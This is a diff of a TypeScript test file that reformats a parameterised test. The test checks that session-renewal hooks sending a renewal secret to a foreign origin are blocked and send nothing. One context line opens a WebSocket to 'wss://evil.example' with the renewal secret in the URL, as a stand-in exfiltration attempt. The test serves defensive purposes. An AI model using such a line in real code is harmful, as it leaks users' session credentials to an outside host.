@@ -75,20 +75,23 @@ describe('S116 R16 secrets of a login or renewal are not sent to a foreign origi
           connect(world.http, { url: 'wss://evil.example/?renewal=' + encodeURIComponent(renewal) }),
         ),
     ],
-  ])('a renewal that sends a secret of the session %s to a foreign origin fails, and nothing is sent', async (_where, send) => {
-    restart({
-      refresh: async (session) => {
-        await null
-        await send(Object(session['grant']).renewal)
-        return { token: 'T1' }
-      },
-    })
-    world.store.setSession(SESSION)
-    world.fake.server(() => ok({ token: 'theirs' }))
-    const error = await errorOf(world.store.refresh())
-    expect(String(error['cause' as never])).toMatch(/allowOrigins/)
-    expect([foreign(), world.fake.sockets.length, world.store.token]).toEqual([[], 0, 'T0-secret'])
-  })
+  ])(
+    'a renewal that sends a secret of the session %s to a foreign origin fails, and nothing is sent',
+    async (_where, send) => {
+      restart({
+        refresh: async (session) => {
+          await null
+          await send(Object(session['grant']).renewal)
+          return { token: 'T1' }
+        },
+      })
+      world.store.setSession(SESSION)
+      world.fake.server(() => ok({ token: 'theirs' }))
+      const error = await errorOf(world.store.refresh())
+      expect(String(error['cause' as never])).toMatch(/allowOrigins/)
+      expect([foreign(), world.fake.sockets.length, world.store.token]).toEqual([[], 0, 'T0-secret'])
+    },
+  )
 
   test('a login that sends the code of wx.login or its credentials to a foreign origin fails, and nothing is sent', async () => {
     restart({
